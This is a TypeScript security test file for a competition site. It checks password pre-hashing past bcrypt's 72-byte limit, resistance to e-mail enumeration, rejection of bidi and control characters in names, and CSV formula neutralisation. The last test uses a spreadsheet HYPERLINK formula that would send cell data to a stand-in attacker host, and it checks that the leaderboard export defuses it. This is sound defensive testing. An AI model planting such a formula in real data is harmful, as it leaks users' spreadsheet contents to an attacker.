// Issue 11 item 8, each made against the real routes: bcrypt's 72-byte limit, e-mail enumeration
// through sign-up, names with control and bidi characters, and formula injection through a team
// name in the leaderboard CSV download.
import { randomBytes } from 'node:crypto'
import bcrypt from 'bcryptjs'
import Papa from 'papaparse'
import { expect, it } from 'vitest'
import { POST as signin } from '../../app/api/auth/signin/route.ts'
import { POST as signup } from '../../app/api/auth/signup/route.ts'
import { POST as createToken } from '../../app/api/tokens/route.ts'
import { POST as signupForm } from '../../app/(forms)/forms/signup/route.ts'
import { GET as leaderboard } from '../../app/api/competitions/[slug]/leaderboard/route.ts'
import { forEachDatabase } from '../helpers/databases.ts'
import { params, seedCompetition, settled, submissionCsv, useTestApp } from '../helpers/app.ts'
import { joinComp, signUp, submit } from './users.ts'

function email(tag: string): string {
  return `${tag}-${randomBytes(4).toString('hex')}@example.test`
}

forEachDatabase((t) => {
  const app = useTestApp(t)
  const signUpAs = (json: Record<string, string>) => signup(app.request('/api/auth/signup', { json }))
  const signInAs = (e: string, password: string) => signin(app.request('/api/auth/signin', { json: { email: e, password } }))

  it('tells two long passwords apart even when their first 72 bytes agree', async () => {
    const e = email('long')
    const common = 'correct horse battery staple '.repeat(3) // 87 bytes
    expect((await signUpAs({ email: e, name: 'Long', password: `${common}one` })).status).toBe(202)
    expect((await signInAs(e, `${common}two`)).status).toBe(401)
    expect((await signInAs(e, common)).status).toBe(401)
    expect((await signInAs(e, `${common}one`)).status).toBe(200)
  })

  it('still accepts passwords hashed before the pre-hash scheme, and upgrades them', async () => {
    const e = email('legacy')
    await t.db.user.create({ data: { email: e, name: 'Legacy', passwordHash: await bcrypt.hash('an old password', 4) } })
    expect((await signInAs(e, 'an old password!')).status).toBe(401)
    expect((await signInAs(e, 'an old password')).status).toBe(200)
    const { passwordHash } = await t.db.user.findUniqueOrThrow({ where: { email: e } })
    expect(passwordHash.startsWith('hs256$')).toBe(true)
    expect((await signInAs(e, 'an old password')).status).toBe(200)
  })

  it('answers a sign-up for a registered e-mail exactly as for a new one, and leaves the account alone', async () => {
    const owner = await signUp(app, 'owner')
    const taken = await signUpAs({ email: owner.email, name: 'Impostor', password: 'impostor password' })
    const fresh = await signUpAs({ email: email('fresh'), name: 'Fresh', password: 'impostor password' })
    expect(taken.status).toBe(fresh.status)
    expect(await taken.text()).toBe(await fresh.text())
    expect(taken.headers.get('set-cookie')).toBeNull()
    expect(fresh.headers.get('set-cookie')).toBeNull()
    expect((await t.db.user.findUniqueOrThrow({ where: { email: owner.email } })).name).toBe(owner.name)
    expect((await signInAs(owner.email, 'impostor password')).status).toBe(401)
    // The browser form sends both to the sign-in page with the same notice.
    const form = (e: string) =>
      signupForm(app.request('/forms/signup', { body: new URLSearchParams({ email: e, name: 'X', password: 'impostor password' }).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } }))
    const a = new URL((await form(owner.email)).headers.get('location')!, 'http://arena.test')
    const b = new URL((await form(email('fresh2'))).headers.get('location')!, 'http://arena.test')
    expect(a.pathname).toBe('/signin')
    expect(b.pathname).toBe('/signin')
    expect(a.searchParams.get('notice')).toBe(b.searchParams.get('notice'))
  })

  it('refuses names with control, bidi and invisible characters, and normalises the rest (NFKC)', async () => {
    for (const name of ['\u202Eevil', 'team\u2066x\u2069', 'bell\u0007', 'zero\u200Bwidth', 'line\u2028break', 'tab\there']) {
      const res = await signUpAs({ email: email('bidi'), name, password: 'long enough pw' })
      expect(res.status, JSON.stringify(name)).toBe(400)
    }
    expect(await t.db.user.count({ where: { email: { startsWith: 'bidi-' } } })).toBe(0)
    const e = email('wide')
    expect((await signUpAs({ email: e, name: '  Ｅｖｅ\u00A0\u00A0ﬁsh ', password: 'long enough pw' })).status).toBe(202)
    expect((await t.db.user.findUniqueOrThrow({ where: { email: e } })).name).toBe('Eve fish')
    // Joiners stay: scripts and emoji need them.
    const f = email('zwj')
    expect((await signUpAs({ email: f, name: 'می\u200Cخواهم 👩\u200D💻', password: 'long enough pw' })).status).toBe(202)
  })

  it('neutralises a formula in a team name in the leaderboard CSV', async () => {
    const c = await seedCompetition(app)
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    const e = email('formula')
    expect((await signUpAs({ email: e, name: formula, password: 'long enough pw' })).status).toBe(202)
    const cookie = ((await signInAs(e, 'long enough pw')).headers.get('set-cookie') ?? '').split(';')[0]
    const tok = await createToken(app.request('/api/tokens', { json: { name: 'x' }, headers: { cookie } }))
    const attacker = { id: '', name: formula, email: e, role: 'participant', cookie, token: ((await tok.json()) as { token: string }).token }
    const team = await joinComp(app, attacker, c.slug)
    expect(team.name).toBe(formula)
    const sub = await submit(app, attacker, c.slug, submissionCsv(c.truth, () => 1))
    expect(sub.status).toBe(201)
    await settled(app, sub.body.submission!.id)
    const res = await leaderboard(app.request(`/api/competitions/${c.slug}/leaderboard?format=csv`), params({ slug: c.slug }))
    expect(res.status).toBe(200)
    const rows = Papa.parse<string[]>((await res.text()).trim()).data
    const row = rows.find((r) => r.includes(team.id))!
    expect(row).toBeDefined()
    for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(row).toContain(`'${formula}`)
  })
})
